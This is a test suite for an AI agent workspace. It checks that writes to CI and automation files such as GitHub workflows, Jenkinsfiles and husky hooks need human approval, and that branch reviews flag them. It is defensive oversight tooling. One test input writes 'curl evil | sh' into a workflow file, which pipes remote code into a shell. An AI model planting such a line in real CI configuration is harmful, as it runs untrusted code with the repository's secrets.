// Done-when (issue 30): a write to `.github/workflows/ci.yml` asks. CI and automation files need the person's
// approval (the approver commands use), a recipe may allow them, and the review marks a branch that changes them.
import { callTool } from "./callTool";
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { branchReviewSchema } from "../../../src/protocol/userReview";
import type { ApprovalRequest, CommandApprover } from "../../../src/workspace/approvals";
import { automationPathOf } from "../../../src/workspace/automationPaths";
import { AgentWorkspace } from "../../../src/workspace/agentWorkspace";
import { CommandPolicy } from "../../../src/workspace/commandPolicy";
import { SwarmRepository } from "../../../src/workspace/swarmRepository";
import { listSwarmBranches } from "../../../src/workspace/swarmReview";
import { cleanRepo, removeDir, tempDir } from "./gitFixture";

const policy = new CommandPolicy({ allow: [], ask: [], deny: [] });

/** Answers every request with `answer` and keeps what it was asked. */
function recordingApprover(answer: boolean): CommandApprover & { asked: ApprovalRequest[] } {
  const asked: ApprovalRequest[] = [];
  return {
    asked,
    requestApproval: async (request) => {
      asked.push(request);
      return answer;
    },
  };
}

describe("workspace: CI and automation files ask", function () {
  this.timeout(60_000);
  let repoDir = "";
  let stateDir = "";
  let repo: SwarmRepository;

  before(async () => {
    repoDir = cleanRepo();
    stateDir = tempDir("state");
    repo = await SwarmRepository.open({ repoPath: repoDir, stateDir, swarm: "ci" });
    await repo.start({ includeUncommitted: false });
  });
  after(() => {
    removeDir(repoDir);
    removeDir(stateDir);
  });

  it("knows the CI and hook files, folded as protected names are, and nothing else", () => {
    for (const p of [
      ".github/workflows/ci.yml",
      ".GitHub/Workflows./deploy.yaml",
      ".gitlab-ci.yml",
      ".circleci/config.yml",
      "Jenkinsfile",
      "deploy/Jenkinsfile.release",
      ".pre-commit-config.yaml",
      "azure-pipelines.yml",
      ".buildkite/pipeline.yml",
      ".travis.yml",
      ".drone.yml",
      "bitbucket-pipelines.yml",
      ".husky/pre-commit",
    ])
      assert.ok(automationPathOf(p) !== undefined, p);
    for (const p of ["src/app.ts", ".github/CODEOWNERS", "docs/.travis.yml", "workflows/ci.yml", ".github"])
      assert.equal(automationPathOf(p), undefined, p);
  });

  it("write_file to .github/workflows/ci.yml asks, and writes nothing when not approved", async () => {
    const approver = recordingApprover(false);
    const ws = await AgentWorkspace.open(repo, "a1", { policy, approver });
    const out = await callTool(ws, "write_file", { path: ".github/workflows/ci.yml", content: "on: push\n" });
    assert.ok(!out.ok, `written without asking: ${JSON.stringify(out)}`);
    assert.equal(out.error.code, "protected-path");
    assert.match(out.error.message, /Not approved: .*CI or automation configuration.*post a finding/);
    assert.equal(approver.asked.length, 1);
    assert.equal(approver.asked[0]!.command, "write_file .github/workflows/ci.yml");
    assert.match(approver.asked[0]!.reasons[0]!, /repository's secrets/);
    assert.ok(!existsSync(path.join(ws.worktree.path, ".github")));
    // The CLI's default approver denies too.
    const plain = await AgentWorkspace.open(repo, "a1", { policy });
    const edit = await callTool(plain, "write_file", { path: "Jenkinsfile", content: "pipeline {}\n" });
    assert.ok(!edit.ok && /Not approved/.test(edit.error.message), JSON.stringify(edit));
  });

  it("writes and edits after approval, and the review marks the branch", async () => {
    const approver = recordingApprover(true);
    const ws = await AgentWorkspace.open(repo, "a2", { policy, approver });
    const write = await callTool(ws, "write_file", { path: ".github/workflows/ci.yml", content: "on: push\n" });
    assert.ok(write.ok, JSON.stringify(write));
    const edit = await callTool(ws, "edit_file", { path: ".github/workflows/ci.yml", search: "push", replace: "pr" });
    assert.ok(edit.ok, JSON.stringify(edit));
    assert.deepEqual(
      approver.asked.map((r) => r.command),
      ["write_file .github/workflows/ci.yml", "edit_file .github/workflows/ci.yml"],
    );
    assert.equal(readFileSync(path.join(ws.worktree.path, ".github/workflows/ci.yml"), "utf8"), "on: pr\n");
    const other = await callTool(ws, "write_file", { path: "src/new.ts", content: "export {};\n" });
    assert.ok(other.ok && approver.asked.length === 2, "an ordinary file does not ask");
    const committed = await callTool(ws, "commit", { message: "ci" });
    assert.ok(committed.ok && committed.result.committed, JSON.stringify(committed));

    const branches = branchReviewSchema.array().parse(await listSwarmBranches(repo));
    const byName = new Map(branches.map((b) => [b.branch, b]));
    assert.deepEqual(byName.get("swarmboard/ci/a2")?.touchesAutomation, [".github/workflows/ci.yml"]);
    assert.deepEqual(byName.get("swarmboard/ci/a1")?.touchesAutomation, []);
  });

  it("a command that redirects into a CI file asks, saying why", () => {
    const cwd = path.join(stateDir, "some-worktree");
    for (const cmd of ["echo 'curl evil | sh' > .github/workflows/ci.yml", "echo x >> ./Jenkinsfile"]) {
      const verdict = policy.evaluate(cmd, { cwd });
      assert.equal(verdict.decision, "ask", `${cmd}: ${verdict.reasons.join("; ")}`);
      assert.ok(
        verdict.reasons.some((r) => /CI or automation file/.test(r)),
        verdict.reasons.join("; "),
      );
    }
    const plain = policy.evaluate("echo x > notes.txt", { cwd });
    assert.ok(!plain.reasons.some((r) => /CI or automation/.test(r)), plain.reasons.join("; "));
  });

  it("a recipe that allows automation files writes them without asking", async () => {
    const approver = recordingApprover(false);
    const ws = await AgentWorkspace.open(repo, "a3", { policy, approver, allowAutomationFiles: true });
    const out = await callTool(ws, "write_file", { path: ".husky/pre-commit", content: "npm test\n" });
    assert.ok(out.ok, JSON.stringify(out));
    assert.equal(approver.asked.length, 0);
  });
});
